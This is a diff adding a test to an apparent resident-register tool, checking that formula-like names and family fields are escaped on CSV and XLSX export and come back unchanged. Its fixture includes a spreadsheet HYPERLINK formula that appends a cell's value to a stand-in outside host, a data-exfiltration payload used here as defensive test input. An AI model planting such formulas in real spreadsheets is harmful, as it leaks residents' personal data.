@@ -498,3 +498,40 @@ def test_two_register_entries_at_one_address_are_not_guessed_between(tmp_path, f
 
     assert adopted is False
     assert count(factory, Resident) == 3 + 2 + 1
+
+
+FORMULA_NAMES = ['=HYPERLINK("http://x.example/?"&B2,"点此")', "+1+1", "-2+3", "@SUM(1+1)"]
+
+
+def test_formula_like_cells_leave_as_text_and_come_back_unchanged(tmp_path, factory, clock) -> None:
+    """A name, relation or family name that looks like a formula never runs when the export is opened."""
+    rows = [
+        [name, f"1380000011{n}", "2号楼", "1", f"40{n}", "普通", "否", "", "＠李强", "=儿子", ""]
+        for n, name in enumerate(FORMULA_NAMES)
+    ]
+    rows.append(["\t=1+1", "13800000119", "2号楼", "1", "409", "普通", "否", "", "", "", ""])
+    assert load(factory, write_csv(tmp_path / "register.csv", [HEADER, *rows]), clock).created == 5
+    as_csv, as_xlsx = tmp_path / "export.csv", tmp_path / "export.xlsx"
+    with transaction(factory) as session:
+        export_register(session, as_csv)
+        export_register(session, as_xlsx)
+
+    with as_csv.open(encoding="utf-8-sig", newline="") as handle:
+        header, *exported = list(csv.reader(handle))
+    cells = [cell for row in exported for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＠"))]
+    by_room = {row[4]: dict(zip(header, row, strict=True)) for row in exported}
+    assert by_room["400"]["姓名"] == "'" + FORMULA_NAMES[0]
+    assert (by_room["401"]["姓名"], by_room["402"]["姓名"]) == ("'+1+1", "'-2+3")
+    assert (by_room["403"]["家属姓名"], by_room["403"]["家属关系"]) == ("'@李强", "'=儿子")
+    assert by_room["409"]["姓名"] == "'=1+1"
+
+    sheet = openpyxl.load_workbook(as_xlsx).worksheets[0]
+    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+    names = {row[4]: row[0] for row in sheet.iter_rows(min_row=2, values_only=True)}
+    assert [names[f"40{n}"] for n in range(4)] == FORMULA_NAMES and names["409"] == "=1+1"
+
+    for exported_file in (as_csv, as_xlsx):
+        again = load(factory, exported_file, clock)
+        assert (again.created, again.updated, again.bad) == (0, 0, [])
+    assert resident(factory, "-2+3").family[0].relation == "=儿子"
